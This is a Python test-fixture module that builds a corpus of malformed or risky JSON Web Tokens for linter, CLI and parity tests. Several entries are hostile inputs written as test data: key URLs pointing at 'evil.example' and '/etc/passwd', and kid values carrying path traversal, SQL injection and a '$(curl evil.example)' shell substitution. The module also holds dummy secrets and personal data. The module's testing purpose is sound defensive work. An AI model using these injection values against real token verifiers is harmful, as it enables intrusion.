"""Tokens for the decoder and linter tests: builders, and the J catalogue as a corpus.

Each corpus entry is ``(name, token, rule ids the linter must report)``. The same corpus feeds
the Python linter tests, the CLI tests and the Python-versus-JavaScript parity test.
"""

from __future__ import annotations

import base64
import json
from typing import Any

NOW = 1_800_000_000
ES_SIG = bytes(range(1, 65))  # a 64-byte r||s-shaped signature (not a valid one)


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def segment(part: dict[str, Any] | bytes | str) -> str:
    """A dict is compact JSON, bytes are raw content, a str is an already-encoded segment."""
    if isinstance(part, dict):
        return b64(json.dumps(part, separators=(",", ":")).encode())
    if isinstance(part, bytes):
        return b64(part)
    return part


def good_header(**extra: Any) -> dict[str, Any]:
    return {"alg": "ES256", "kid": "k1", "typ": "at+jwt", **extra}


def good_claims(**extra: Any) -> dict[str, Any]:
    claims = {
        "iss": "https://auth.example.com",
        "sub": "user-1",
        "aud": "https://api.example.com",
        "exp": NOW + 300,
        "iat": NOW,
        "jti": "j1",
    }
    claims.update(extra)
    return {k: v for k, v in claims.items() if v is not _DROP}


class _Drop:
    pass


_DROP: Any = _Drop()
DROP: Any = _DROP


def make(
    header: dict[str, Any] | bytes | str | None = None,
    payload: dict[str, Any] | bytes | str | None = None,
    signature: bytes | str = ES_SIG,
) -> str:
    h = segment(good_header() if header is None else header)
    p = segment(good_claims() if payload is None else payload)
    return f"{h}.{p}.{segment(signature)}"


def _corpus() -> list[tuple[str, str, set[str]]]:
    c: list[tuple[str, str, set[str]]] = []

    def add(name: str, token: str, *ids: str) -> None:
        c.append((name, token, set(ids)))

    add("clean", make())
    # J01: alg none in every spelling, empty, null, missing, array; with and without signature
    for spelling in ("none", "None", "NONE", "nOnE"):
        add(f"J01-alg-{spelling}", make(good_header(alg=spelling)), "alg-none")
        add(
            f"J01-alg-{spelling}-unsigned",
            make(good_header(alg=spelling), signature=""),
            "alg-none",
            "signature-missing",
        )
    for label, value in (("empty", ""), ("null", None), ("array", ["ES256"]), ("number", 1)):
        add(f"J01-alg-{label}", make(good_header(alg=value)), "alg-missing")
    add("J01-alg-missing", make({"kid": "k1", "typ": "at+jwt"}), "alg-missing")
    # J02: signature stripped, truncated, empty; two-part tokens
    good = make()
    add("J02-stripped", good.rsplit(".", 1)[0] + ".", "signature-missing")
    add("J02-two-part", good.rsplit(".", 1)[0], "signature-missing")
    add("J02-truncated", make(signature=ES_SIG[:40]), "signature-length")
    # J04/J05: HMAC algorithms
    for alg in ("HS256", "HS384", "HS512", "hs256"):
        add(f"J04-{alg}", make(good_header(alg=alg), signature=b"\x01" * 32), "alg-hmac")
    # J06: relabelled within the asymmetric family
    for alg in ("PS256", "RS512", "ES384"):
        add(f"J06-{alg}", make(good_header(alg=alg), signature=b"\x01" * 256), "alg-unexpected")
    # J07/J08: keys and key URLs named by the token
    jwk = {"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"}
    add("J07-jwk", make(good_header(jwk=jwk)), "untrusted-key-header")
    add("J07-x5c", make(good_header(x5c=["MIIB"])), "untrusted-key-header")
    for url in ("http://evil.example/jwks", "file:///etc/passwd", "data:,{}"):
        add(f"J08-jku-{url[:4]}", make(good_header(jku=url)), "untrusted-key-header")
        add(f"J08-x5u-{url[:4]}", make(good_header(x5u=url)), "untrusted-key-header")
    # J09: kid injection
    for label, kid in (
        ("traversal", "../../../../dev/null"),
        ("sql", "1' OR '1'='1"),
        ("shell", "$(curl evil.example)"),
        ("pipe", "k1|id"),
    ):
        add(f"J09-kid-{label}", make(good_header(kid=kid)), "kid-unusual")
    for label, kid in (("int", 7), ("list", ["k1"]), ("empty", ""), ("10kb", "k" * 10240)):
        add(f"J09-kid-{label}", make(good_header(kid=kid)), "kid-invalid")
    add("J09-kid-missing", make({"alg": "ES256", "typ": "at+jwt"}), "kid-missing")
    # J10/J11: crit and b64
    for label, crit in (("unknown", ["exp"]), ("empty", []), ("alg", ["alg"])):
        add(f"J10-crit-{label}", make(good_header(crit=crit)), "crit-header")
    add("J11-b64", make(good_header(b64=False)), "b64-header")
    add("J11-b64-crit", make(good_header(b64=False, crit=["b64"])), "b64-header", "crit-header")
    add("extra-header", make(good_header(x5t="abc", cty="JWT")), "unsupported-header")
    # J12: duplicate JSON member names
    hdr = b'{"alg":"ES256","kid":"k1","typ":"at+jwt","alg":"none"}'
    add("J12-dup-header", make(hdr), "duplicate-key", "alg-none")
    dup_payload = json.dumps(good_claims(), separators=(",", ":"))[:-1] + ',"sub":"admin"}'
    add("J12-dup-payload", make(payload=dup_payload.encode()), "duplicate-key")
    # J13: time claims
    add("J13-expired", make(payload=good_claims(exp=NOW - 10)), "expired")
    add("J13-exp-now", make(payload=good_claims(exp=NOW)), "expired")
    add("J13-exp-missing", make(payload=good_claims(exp=DROP)), "missing-exp")
    add(
        "J13-nbf-future",
        make(payload=good_claims(nbf=NOW + 3600, exp=NOW + 3700, iat=NOW + 3600)),
        "nbf-in-future",
        "iat-in-future",
    )
    add("J13-iat-future", make(payload=good_claims(iat=NOW + 120)), "iat-in-future")
    for label, value in (
        ("string", "1800000300"),
        ("huge", 10**20),
        ("negative", -1),
        ("bool", True),
        ("null", None),
    ):
        add(f"J13-exp-{label}", make(payload=good_claims(exp=value)), "time-not-numeric")
    add("J13-float", make(payload=good_claims(exp=NOW + 300.5)))
    add(
        "J13-ms",
        make(payload=good_claims(iat=NOW * 1000, exp=NOW * 1000 + 300_000)),
        "time-in-milliseconds",
    )
    add("J13-iat-after-exp", make(payload=good_claims(iat=NOW + 30, exp=NOW + 20)), "iat-after-exp")
    add("J13-nbf-after-exp", make(payload=good_claims(nbf=NOW + 300)), "nbf-after-exp")
    add("J13-long-life", make(payload=good_claims(exp=NOW + 30 * 86400)), "lifetime-too-long")
    add("J13-long-no-iat", make(payload=good_claims(iat=DROP, exp=NOW + 7200)), "lifetime-too-long")
    # J14: iss, aud, typ
    add("J14-iss-array", make(payload=good_claims(iss=["https://auth.example.com"])), "claim-type")
    add("J14-iss-missing", make(payload=good_claims(iss=DROP)), "missing-iss")
    add("J14-aud-missing", make(payload=good_claims(aud=DROP)), "missing-aud")
    add("J14-aud-empty-list", make(payload=good_claims(aud=[])), "claim-type")
    add("J14-aud-number", make(payload=good_claims(aud=7)), "claim-type")
    add("J14-aud-list-ok", make(payload=good_claims(aud=["a", "b"])))
    add("J14-typ-missing", make({"alg": "ES256", "kid": "k1"}), "typ-unexpected")
    add("J14-typ-jwt", make(good_header(typ="JWT")), "typ-unexpected")
    add("J14-typ-media", make(good_header(typ="application/at+jwt")))
    add("J14-jti-missing", make(payload=good_claims(jti=DROP)), "missing-jti")
    # J15: size
    add("J15-1mb", "a" * (1 << 20), "token-too-large")
    add("J15-70kb", "eyJ" + "a" * 70000, "token-too-large")
    deep = b'{"alg":"ES256","x":' + b"[" * 10000 + b"]" * 10000 + b"}"
    add("J15-deep", make(deep), "json-too-deep")
    add("J15-dots", "." * 10000, "segment-count")
    # J16: non-canonical base64url
    h = segment(good_header())
    p = segment(good_claims())
    s = segment(ES_SIG)
    add("J16-padding", f"{h}=.{p}.{s}", "non-canonical-base64url")
    std = base64.b64encode(json.dumps(good_claims()).encode() + b"\xfb\xff").decode().rstrip("=")
    add("J16-plus-slash", f"{h}.{std}.{s}", "non-canonical-base64url", "invalid-json")
    add("J16-whitespace", f"{h[:10]} {h[10:]}.{p}.{s}", "non-canonical-base64url")
    bits = s[:-1] + {"A": "B", "Q": "R", "g": "h", "w": "x"}.get(s[-1], s[-1])
    add("J16-trailing-bits", f"{h}.{p}.{bits}", "non-canonical-base64url")
    add("J16-garbage", f"{h}.{p}.%%%%", "invalid-base64url")
    add("J16-one-char", f"{h}.a.{s}", "invalid-base64url")
    # J17: format confusion
    add("J17-jwe", "eyJhbGciOiJSU0EtT0FFUCJ9.a.b.c.d", "jwe-token")
    add("J17-json", '{"payload":"e30","signatures":[]}', "json-serialization")
    add("J17-four", f"{h}.{p}.{s}.x", "segment-count")
    add("J17-six", f"{h}.{p}.{s}.x.y.z", "segment-count")
    add("J17-empty-header", f".{p}.{s}", "empty-segment")
    add("J17-empty-payload", f"{h}..{s}", "empty-segment")
    add("J17-empty", "   ", "empty-token")
    # J18/J20: signature shapes
    add("J18-zero", make(signature=bytes(64)), "signature-zero")
    der = b"\x30\x44\x02\x20" + b"\x01" * 32 + b"\x02\x20" + b"\x01" * 32
    add("J18-der", make(signature=der), "signature-length")
    add("J20-ed-zero", make(good_header(alg="Ed25519"), signature=bytes(64)), "signature-zero")
    add("J20-ed-short", make(good_header(alg="EdDSA"), signature=b"\x01" * 63), "signature-length")
    add("RS-short", make(good_header(alg="RS256"), signature=b"\x01" * 128), "signature-length")
    # J23: claim tricks
    for label, sub in (("number", 1), ("array", ["u"]), ("object", {"id": "u"}), ("nul", "u\x00")):
        add(f"J23-sub-{label}", make(payload=good_claims(sub=sub)), "claim-type")
    add("J23-sub-missing", make(payload=good_claims(sub=DROP)), "missing-sub")
    add(
        "J23-bom",
        make(payload=b"\xef\xbb\xbf" + json.dumps(good_claims()).encode()),
        "invalid-json",
    )
    add("J23-utf16", make(payload=json.dumps(good_claims()).encode("utf-16")), "invalid-json")
    add("J23-bad-utf8", make(payload=b'{"sub":"\xff"}'), "invalid-json")
    add("J23-lone-surrogate", make(payload=b'{"sub":"\\ud800"}'), "invalid-json")
    add("J23-inf", make(payload=b'{"exp":1e400}'), "invalid-json")
    add("J23-not-object", make(payload=b"[1,2]"), "not-an-object")
    add("J23-header-not-object", make(b'"ES256"'), "not-an-object")
    # Secrets, personal data and growth: the seed's payload advice
    add(
        "secrets",
        make(
            payload=good_claims(
                password="hunter2",
                key="-----BEGIN PRIVATE KEY-----",
                card="4111 1111 1111 1111",
                api="sk_live_abcdefghijklmnop",
            )
        ),
        "secret-claim-name",
        "pem-block",
        "card-number",
        "api-key",
    )
    add(
        "personal",
        make(
            payload=good_claims(
                email="ada@example.com", phone="+44 20 7946 0958", ssn="078-05-1120"
            )
        ),
        "personal-data-claim-name",
        "email-address",
        "phone-number",
        "national-id",
        "secret-claim-name",
    )
    add("email-newline", make(payload=good_claims(contact="ada@example.com\n")), "email-address")
    roles = [f"role-{i}" for i in range(25)]
    perms = {f"perm{i}": True for i in range(21)}
    add(
        "many-roles",
        make(payload=good_claims(roles=roles, profile={"perms": perms})),
        "many-entries",
    )
    add("big-payload", make(payload=good_claims(blob="x" * 3000)), "large-payload", "cookie-budget")
    add(
        "header-budget",
        make(payload=good_claims(blob="x" * 7000)),
        "large-payload",
        "header-budget",
    )
    add("nested-scan", make(payload=good_claims(ctx={"a": [{"secret": "x"}]})), "secret-claim-name")
    return c


CORPUS = _corpus()
